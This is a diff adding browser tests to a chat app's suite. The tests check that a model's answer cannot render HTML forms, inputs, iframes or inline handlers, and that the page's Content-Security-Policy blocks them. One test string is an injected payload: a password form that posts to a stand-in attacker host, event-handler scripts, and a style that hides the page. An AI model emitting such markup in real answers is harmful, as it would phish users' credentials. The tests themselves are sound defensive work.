@@ -174,6 +174,52 @@ async def test_answer_markdown_is_rendered_and_sanitised(browser, sim_stack):
         await expect(page.locator(".msg.user img")).to_have_count(0)
 
 
+FORM_REPLY = ("[[sim:reply=Please confirm: <form action=https://attacker.example/steal method=post>"
+              "<input name=password placeholder=Password><textarea name=note></textarea>"
+              "<select name=s><option>one</option></select>"
+              "<button formaction=https://attacker.example/go onclick=alert(1)>Confirm</button>"
+              "</form> <iframe src=https://attacker.example/></iframe>"
+              "<style>body{display:none}</style> <embed src=x> <object data=x></object> "
+              "<a href=# style=position:fixed onmouseover=alert(1)>done</a>]]")
+ANSWER_FORBIDDEN = ("form, input, button, textarea, select, option, iframe, object, embed, style, "
+                    "[formaction], [onclick], [onmouseover], [style]")
+
+
+async def test_an_answer_cannot_render_a_form_or_an_input(browser, sim_stack):
+    async with chat_page(browser, sim_stack) as page:
+        await send(page, FORM_REPLY)
+        await answered(page)
+        answer = last_answer(page).locator(".content")
+        await expect(answer).to_contain_text("Please confirm")
+        await expect(answer.locator("a")).to_have_text("done")  # the rest still renders
+        await expect(answer.locator(ANSWER_FORBIDDEN)).to_have_count(0)
+        # The page's own sanitiser, given the HTML directly (not through the model's words).
+        rendered = await page.evaluate(
+            """async ({ html, forbidden }) => {
+                 const { renderMarkdown } = await import("/static/markdown.js");
+                 const box = document.createElement("div");
+                 box.innerHTML = renderMarkdown(html);
+                 return [box.querySelectorAll(forbidden).length, box.textContent];
+               }""",
+            {"html": '<form action="/x"><input name="q"><button formaction="/y">Go</button>'
+                     '</form><iframe srcdoc="<p>x</p>"></iframe><p onclick="alert(1)">kept</p>',
+             "forbidden": ANSWER_FORBIDDEN})
+        assert rendered[0] == 0, rendered
+        assert "kept" in rendered[1] and "Go" in rendered[1]
+
+
+async def test_the_page_forbids_forms_frames_and_foreign_bases(sim_stack):
+    async with client_for(sim_stack) as client:
+        for path in ("/", "/static/app.js"):
+            policy = (await client.get(path)).headers["content-security-policy"]
+            directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
+            assert directives["form-action"] == "'none'", policy
+            assert directives["frame-ancestors"] == "'none'", policy
+            assert directives["base-uri"] == "'none'", policy
+            assert directives["object-src"] == "'none'", policy
+            assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
+
+
 async def test_stop_ends_the_answer_and_the_pipeline_stops_generating(browser, slow_stack):
     async with chat_page(browser, slow_stack) as page:
         await send(page, "[[sim:length=1000]]")
